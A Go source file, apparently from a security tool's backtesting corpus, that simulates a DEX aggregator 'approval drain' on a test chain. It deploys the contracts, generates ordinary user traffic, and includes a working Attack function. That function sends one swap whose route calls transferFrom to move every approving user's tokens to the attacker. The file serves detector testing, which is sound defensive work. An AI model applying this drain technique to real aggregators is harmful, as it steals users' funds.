// Package approvaldrain is the corpus scenario `approval-drain`: a DEX
// aggregator (OmniSwapAggregator) whose swap routes may call any contract
// with any calldata as the aggregator; every user approved it, so one route
// of transferFrom(victim, attacker, balance) calls empties many wallets in a
// single transaction (Transit Swap 2022, LI.FI 2022/2024, Socket 2024).
package approvaldrain

import (
	"context"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"math/rand/v2"

	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/math"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/warden-dev/warden/contracts/bindings/omniswapaggregator"
	"github.com/warden-dev/warden/contracts/bindings/omniusd"
	"github.com/warden-dev/warden/contracts/bindings/uniswapv2factory"
	"github.com/warden-dev/warden/contracts/bindings/uniswapv2pair"
	"github.com/warden-dev/warden/contracts/bindings/uniswapv2router02"
	"github.com/warden-dev/warden/contracts/bindings/weth9"
	"github.com/warden-dev/warden/detect/backtest/corpus"
)

var (
	aggABI     = omniswapaggregator.NewOmniSwapAggregator()
	usdABI     = omniusd.NewOmniUSD()
	wethABI    = weth9.NewWETH9()
	factoryABI = uniswapv2factory.NewUniswapV2Factory()
	pairABI    = uniswapv2pair.NewUniswapV2Pair()
	routerABI  = uniswapv2router02.NewUniswapV2Router02()
	deadline   = math.MaxBig256
	// ethToken is the aggregator's pseudo-address for native ETH.
	ethToken = common.HexToAddress("0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE")
)

// Gas limits, a few times what each call was measured to use.
const (
	gasTransfer = 150_000
	gasApprove  = 100_000
	gasSwap     = 800_000
	gasAdmin    = 150_000
	gasDrain    = 3_000_000
)

type scenario struct{}

// New returns the scenario.
func New() corpus.Scenario { return scenario{} }

func (scenario) Name() string     { return "approval-drain" }
func (scenario) Category() string { return "approval-drain" }

// state tracks wallets (lower bounds) as of the transactions sent so far.
type state struct {
	usd, weth, router, pair, agg common.Address
	ops                          *ecdsa.PrivateKey
	owner                        *ecdsa.PrivateKey // current aggregator owner: env.Deployer or ops
	cold                         common.Address    // the whale's cold wallet
	ousd, wweth                  []*big.Int
	feeBps                       int64 // the highest fee that may apply (fees only move within 0-30)
}

// Deploy deploys oUSD, WETH9, a Uniswap V2 factory, router and an oUSD/WETH
// pair seeded with 2,000,000 oUSD / 1,000 WETH, and the aggregator (owner
// and fee recipient: the Deployer, 10 bps). Users get oUSD, wrap ETH and
// approve both the aggregator and the Uniswap router for both tokens.
func (scenario) Deploy(ctx context.Context, env *corpus.Env, rng *rand.Rand) (*corpus.Deployment, error) {
	if len(env.Users) < 3 {
		return nil, fmt.Errorf("approvaldrain: need at least 3 users, have %d", len(env.Users))
	}
	admin := corpus.Address(env.Deployer)
	ops, err := crypto.ToECDSA(crypto.Keccak256([]byte("warden corpus approval-drain ops key")))
	if err != nil {
		return nil, fmt.Errorf("approvaldrain: derive ops key: %w", err)
	}
	cold, err := crypto.ToECDSA(crypto.Keccak256([]byte("warden corpus approval-drain whale cold wallet")))
	if err != nil {
		return nil, fmt.Errorf("approvaldrain: derive cold wallet: %w", err)
	}
	st := &state{ops: ops, owner: env.Deployer, cold: corpus.Address(cold), feeBps: 30}
	deploy := func(what string, meta *bind.MetaData, args ...any) common.Address {
		if err != nil {
			return common.Address{}
		}
		var a common.Address
		if a, _, err = env.Deploy(ctx, env.Deployer, meta, args...); err != nil {
			err = fmt.Errorf("approvaldrain: deploy %s: %w", what, err)
		}
		return a
	}
	st.usd = deploy("OmniUSD", &omniusd.OmniUSDMetaData, admin)
	st.weth = deploy("WETH9", &weth9.WETH9MetaData)
	factory := deploy("UniswapV2Factory", &uniswapv2factory.UniswapV2FactoryMetaData, admin)
	st.router = deploy("UniswapV2Router02", &uniswapv2router02.UniswapV2Router02MetaData, factory, st.weth)
	st.agg = deploy("OmniSwapAggregator", &omniswapaggregator.OmniSwapAggregatorMetaData, admin, admin, big.NewInt(10))
	if err != nil {
		return nil, err
	}
	if err := env.SendAll(ctx, "create and fund the pair", []corpus.Call{
		corpus.Tx(env.Deployer, factory, factoryABI.PackCreatePair(st.usd, st.weth), nil, 3_000_000),
		corpus.Tx(env.Deployer, st.usd, usdABI.PackMint(admin, corpus.Ether(2_000_000)), nil, gasTransfer),
		corpus.Tx(env.Deployer, st.weth, wethABI.PackDeposit(), corpus.Ether(1_000), gasTransfer),
		corpus.Tx(env.Deployer, corpus.Address(ops), nil, corpus.Ether(10), 50_000),
	}); err != nil {
		return nil, err
	}
	st.pair, err = bind.Call(factoryABI.Instance(env.Client, factory), &bind.CallOpts{Context: ctx}, factoryABI.PackGetPair(st.usd, st.weth), factoryABI.UnpackGetPair)
	if err != nil {
		return nil, fmt.Errorf("approvaldrain: read pair: %w", err)
	}
	if err := env.SendAll(ctx, "seed the pair", []corpus.Call{
		corpus.Tx(env.Deployer, st.usd, usdABI.PackTransfer(st.pair, corpus.Ether(2_000_000)), nil, gasTransfer),
		corpus.Tx(env.Deployer, st.weth, wethABI.PackTransfer(st.pair, corpus.Ether(1_000)), nil, gasTransfer),
	}); err != nil {
		return nil, err
	}
	calls := []corpus.Call{corpus.Tx(env.Deployer, st.pair, pairABI.PackMint(admin), nil, 600_000)}
	for i, u := range env.Users {
		usd, weth := corpus.RandEther(rng, 5_000, 50_000), corpus.RandEther(rng, 5, 50)
		if i == 0 {
			usd, weth = corpus.Ether(500_000), corpus.Ether(300)
		}
		st.ousd = append(st.ousd, usd)
		st.wweth = append(st.wweth, weth)
		calls = append(calls,
			corpus.Tx(env.Deployer, st.usd, usdABI.PackMint(corpus.Address(u), usd), nil, gasTransfer),
			corpus.Tx(u, st.weth, wethABI.PackDeposit(), weth, gasTransfer),
		)
		for _, token := range []common.Address{st.usd, st.weth} {
			for _, spender := range []common.Address{st.agg, st.router} {
				calls = append(calls, corpus.Tx(u, token, usdABI.PackApprove(spender, math.MaxBig256), nil, gasApprove))
			}
		}
	}
	if err := env.SendAll(ctx, "fund users", calls); err != nil {
		return nil, err
	}
	return &corpus.Deployment{
		Contracts: []corpus.Contract{
			corpus.ContractOf("OmniSwapAggregator", st.agg, &omniswapaggregator.OmniSwapAggregatorMetaData),
			corpus.ContractOf("OmniUSD", st.usd, &omniusd.OmniUSDMetaData),
			corpus.ContractOf("WETH9", st.weth, &weth9.WETH9MetaData),
		},
		Admins: []common.Address{admin, corpus.Address(ops)},
		State:  st,
	}, nil
}

// Benign sends one ordinary action: swaps through the aggregator (oUSD for
// WETH, WETH for oUSD, ETH for oUSD), direct Uniswap swaps, transfers,
// wrapping, the whale's large swaps and moves to its cold wallet, and rarely
// the owner changing the fee or its recipient or handing ownership between
// its two keys.
func (scenario) Benign(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]common.Hash, error) {
	st, ok := d.State.(*state)
	if !ok {
		return nil, fmt.Errorf("approvaldrain: deployment state is %T, not from this scenario", d.State)
	}
	u := 1 + rng.IntN(len(env.Users)-1)
	other := rng.IntN(len(env.Users))
	var h common.Hash
	var err error
	r := rng.Float64()
	if r >= 0.95 {
		// Admin actions wait until the last handover is mined: blocks do
		// not reliably order one sender's transactions after another's.
		settled, serr := st.ownerSettled(ctx, env)
		if serr != nil {
			return nil, serr
		}
		if !settled {
			r = 0.8 // wrap ETH instead
		}
	}
	switch {
	case r < 0.30 && st.ousd[u].Cmp(corpus.Ether(100)) > 0:
		h, err = st.aggSwap(ctx, env, u, st.usd, st.weth, corpus.MinBig(corpus.RandEther(rng, 50, 5_000), st.ousd[u]))
	case r < 0.52 && st.wweth[u].Cmp(corpus.Ether(1)) > 0:
		h, err = st.aggSwap(ctx, env, u, st.weth, st.usd, corpus.MinBig(corpus.RandEther(rng, 0, 3), st.wweth[u]))
	case r < 0.62:
		h, err = st.aggSwap(ctx, env, u, ethToken, st.usd, corpus.RandEther(rng, 0, 2))
	case r < 0.70 && st.ousd[u].Cmp(corpus.Ether(100)) > 0:
		in := corpus.MinBig(corpus.RandEther(rng, 50, 3_000), st.ousd[u])
		out, qerr := st.quote(ctx, env, st.usd, in)
		if qerr != nil {
			return nil, qerr
		}
		me := corpus.Address(env.Users[u])
		h, err = env.Call(ctx, env.Users[u], st.router, routerABI.PackSwapExactTokensForTokens(in, common.Big0, []common.Address{st.usd, st.weth}, me, deadline), nil, gasSwap)
		if err == nil {
			st.ousd[u].Sub(st.ousd[u], in)
			st.wweth[u].Add(st.wweth[u], corpus.Percent(out, 80))
		}
	case r < 0.78 && st.ousd[u].Cmp(corpus.Ether(100)) > 0:
		amount := corpus.Percent(st.ousd[u], 5+rng.IntN(40))
		h, err = env.Call(ctx, env.Users[u], st.usd, usdABI.PackTransfer(corpus.Address(env.Users[other]), amount), nil, gasTransfer)
		if err == nil {
			st.ousd[u].Sub(st.ousd[u], amount)
			// The recipient is not credited: another sender's transaction
			// may be mined before this one, so it must not spend it.
		}
	case r < 0.84:
		amount := corpus.RandEther(rng, 1, 20)
		h, err = env.Call(ctx, env.Users[u], st.weth, wethABI.PackDeposit(), amount, gasTransfer)
		if err == nil {
			st.wweth[u].Add(st.wweth[u], amount)
		}
	case r < 0.89 && st.ousd[0].Cmp(corpus.Ether(100_000)) > 0:
		// A whale-sized swap through the aggregator.
		h, err = st.aggSwap(ctx, env, 0, st.usd, st.weth, corpus.RandEther(rng, 20_000, 100_000))
	case r < 0.92 && st.ousd[0].Cmp(corpus.Ether(100_000)) > 0:
		// The whale moves a large part of its oUSD to its cold wallet.
		amount := corpus.Percent(st.ousd[0], 20+rng.IntN(40))
		h, err = env.Call(ctx, env.Users[0], st.usd, usdABI.PackTransfer(st.cold, amount), nil, gasTransfer)
		if err == nil {
			st.ousd[0].Sub(st.ousd[0], amount)
		}
	case r < 0.95 && st.wweth[0].Cmp(corpus.Ether(20)) > 0:
		h, err = st.aggSwap(ctx, env, 0, st.weth, st.usd, corpus.Percent(st.wweth[0], 10+rng.IntN(30)))
	case r >= 0.95 && r < 0.975:
		h, err = env.Call(ctx, st.owner, st.agg, aggABI.PackSetFee(big.NewInt(int64(rng.IntN(31)))), nil, gasAdmin)
	case r >= 0.975 && r < 0.99:
		to := corpus.Address(env.Deployer)
		if rng.IntN(2) == 0 {
			to = corpus.Address(st.ops)
		}
		h, err = env.Call(ctx, st.owner, st.agg, aggABI.PackSetFeeRecipient(to), nil, gasAdmin)
	case r >= 0.99:
		next := st.ops
		if st.owner == st.ops {
			next = env.Deployer
		}
		h, err = env.Call(ctx, st.owner, st.agg, aggABI.PackTransferOwnership(corpus.Address(next)), nil, gasAdmin)
		if err == nil {
			st.owner = next
		}
	default:
		amount := corpus.RandEther(rng, 1, 20)
		h, err = env.Call(ctx, env.Users[u], st.weth, wethABI.PackDeposit(), amount, gasTransfer)
		if err == nil {
			st.wweth[u].Add(st.wweth[u], amount)
		}
	}
	if err != nil {
		return nil, fmt.Errorf("approvaldrain: benign step: %w", err)
	}
	return []common.Hash{h}, nil
}

// Attack sends one aggregator swap of 1 wei of ETH whose route is a
// transferFrom(user, attacker, balance) call for every user and token the
// aggregator may spend.
func (scenario) Attack(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]corpus.AttackTx, error) {
	st, ok := d.State.(*state)
	if !ok {
		return nil, fmt.Errorf("approvaldrain: deployment state is %T, not from this scenario", d.State)
	}
	me := corpus.Address(env.Attacker)
	beforeUSD, err := st.balance(ctx, env, st.usd, me)
	if err != nil {
		return nil, err
	}
	var route []omniswapaggregator.OmniSwapAggregatorCall
	for _, u := range env.Users {
		victim := corpus.Address(u)
		for _, token := range []common.Address{st.usd, st.weth} {
			bal, err := st.balance(ctx, env, token, victim)
			if err != nil {
				return nil, err
			}
			if bal.Sign() == 0 {
				continue
			}
			route = append(route, omniswapaggregator.OmniSwapAggregatorCall{
				Target: token, Value: new(big.Int), Data: usdABI.PackTransferFrom(victim, me, bal),
			})
		}
	}
	if len(route) == 0 {
		return nil, fmt.Errorf("approvaldrain: no user holds anything to drain")
	}
	desc := omniswapaggregator.OmniSwapAggregatorSwapDescription{
		SrcToken: ethToken, DstToken: st.usd, Amount: big.NewInt(1), MinReturn: new(big.Int), Recipient: me,
	}
	r, err := env.CallAndWait(ctx, env.Attacker, st.agg, aggABI.PackSwap(desc, route), big.NewInt(1), gasDrain)
	var txs []corpus.AttackTx
	if r != nil {
		txs = append(txs, corpus.AttackTx{Hash: r.TxHash, Stage: corpus.StageExploit,
			Note: fmt.Sprintf("swap 1 wei whose route is %d transferFrom calls draining every approver", len(route))})
	}
	if err != nil {
		return txs, fmt.Errorf("approvaldrain: drain: %w", err)
	}
	afterUSD, err := st.balance(ctx, env, st.usd, me)
	if err != nil {
		return txs, err
	}
	if afterUSD.Cmp(beforeUSD) <= 0 {
		return txs, fmt.Errorf("approvaldrain: attack left the attacker with %s oUSD wei, had %s", afterUSD, beforeUSD)
	}
	return txs, nil
}

// ownerSettled reports whether the chain's aggregator owner is the key
// this scenario last handed ownership to.
func (st *state) ownerSettled(ctx context.Context, env *corpus.Env) (bool, error) {
	owner, err := bind.Call(aggABI.Instance(env.Client, st.agg), &bind.CallOpts{Context: ctx}, aggABI.PackOwner(), aggABI.UnpackOwner)
	if err != nil {
		return false, fmt.Errorf("approvaldrain: read aggregator owner: %w", err)
	}
	return owner == corpus.Address(st.owner), nil
}

// aggSwap swaps `in` of src for dst through the aggregator along a Uniswap
// route, with no minimum (the output is credited at 80% of the quote less
// the highest fee, a lower bound).
func (st *state) aggSwap(ctx context.Context, env *corpus.Env, u int, src, dst common.Address, in *big.Int) (common.Hash, error) {
	key := env.Users[u]
	poolIn := src
	if src == ethToken {
		poolIn = st.weth
	}
	out, err := st.quote(ctx, env, poolIn, in)
	if err != nil {
		return common.Hash{}, err
	}
	var route []omniswapaggregator.OmniSwapAggregatorCall
	var value *big.Int
	if src == ethToken {
		value = in
		route = []omniswapaggregator.OmniSwapAggregatorCall{{
			Target: st.router, Value: in,
			Data: routerABI.PackSwapExactETHForTokens(common.Big0, []common.Address{st.weth, dst}, st.agg, deadline),
		}}
	} else {
		route = []omniswapaggregator.OmniSwapAggregatorCall{
			{Target: src, Value: new(big.Int), Data: usdABI.PackApprove(st.router, in)},
			{Target: st.router, Value: new(big.Int), Data: routerABI.PackSwapExactTokensForTokens(in, common.Big0, []common.Address{src, dst}, st.agg, deadline)},
		}
	}
	desc := omniswapaggregator.OmniSwapAggregatorSwapDescription{
		SrcToken: src, DstToken: dst, Amount: in, MinReturn: new(big.Int), Recipient: corpus.Address(key),
	}
	h, err := env.Call(ctx, key, st.agg, aggABI.PackSwap(desc, route), value, gasSwap)
	if err != nil {
		return common.Hash{}, fmt.Errorf("approvaldrain: user %d swaps through the aggregator: %w", u, err)
	}
	credit := corpus.Percent(out, 80)
	credit.Sub(credit, new(big.Int).Div(new(big.Int).Mul(credit, big.NewInt(st.feeBps)), big.NewInt(10_000)))
	switch src {
	case st.usd:
		st.ousd[u].Sub(st.ousd[u], in)
	case st.weth:
		st.wweth[u].Sub(st.wweth[u], in)
	}
	if dst == st.usd {
		st.ousd[u].Add(st.ousd[u], credit)
	} else {
		st.wweth[u].Add(st.wweth[u], credit)
	}
	return h, nil
}

// quote is what selling `in` of tokenIn into the pair returns now.
func (st *state) quote(ctx context.Context, env *corpus.Env, tokenIn common.Address, in *big.Int) (*big.Int, error) {
	r, err := bind.Call(pairABI.Instance(env.Client, st.pair), &bind.CallOpts{Context: ctx}, pairABI.PackGetReserves(), pairABI.UnpackGetReserves)
	if err != nil {
		return nil, fmt.Errorf("approvaldrain: reserves of %s: %w", st.pair, err)
	}
	rin, rout := r.Reserve0, r.Reserve1
	other := st.usd
	if tokenIn == st.usd {
		other = st.weth
	}
	if tokenIn.Cmp(other) > 0 { // a pair's token0 is the lower address
		rin, rout = r.Reserve1, r.Reserve0
	}
	inFee := new(big.Int).Mul(in, big.NewInt(997))
	num := new(big.Int).Mul(inFee, rout)
	den := new(big.Int).Add(new(big.Int).Mul(rin, big.NewInt(1000)), inFee)
	return num.Div(num, den), nil
}

func (st *state) balance(ctx context.Context, env *corpus.Env, token, who common.Address) (*big.Int, error) {
	v, err := bind.Call(usdABI.Instance(env.Client, token), &bind.CallOpts{Context: ctx}, usdABI.PackBalanceOf(who), usdABI.UnpackBalanceOf)
	if err != nil {
		return nil, fmt.Errorf("approvaldrain: balance of %s in %s: %w", who, token, err)
	}
	return v, nil
}
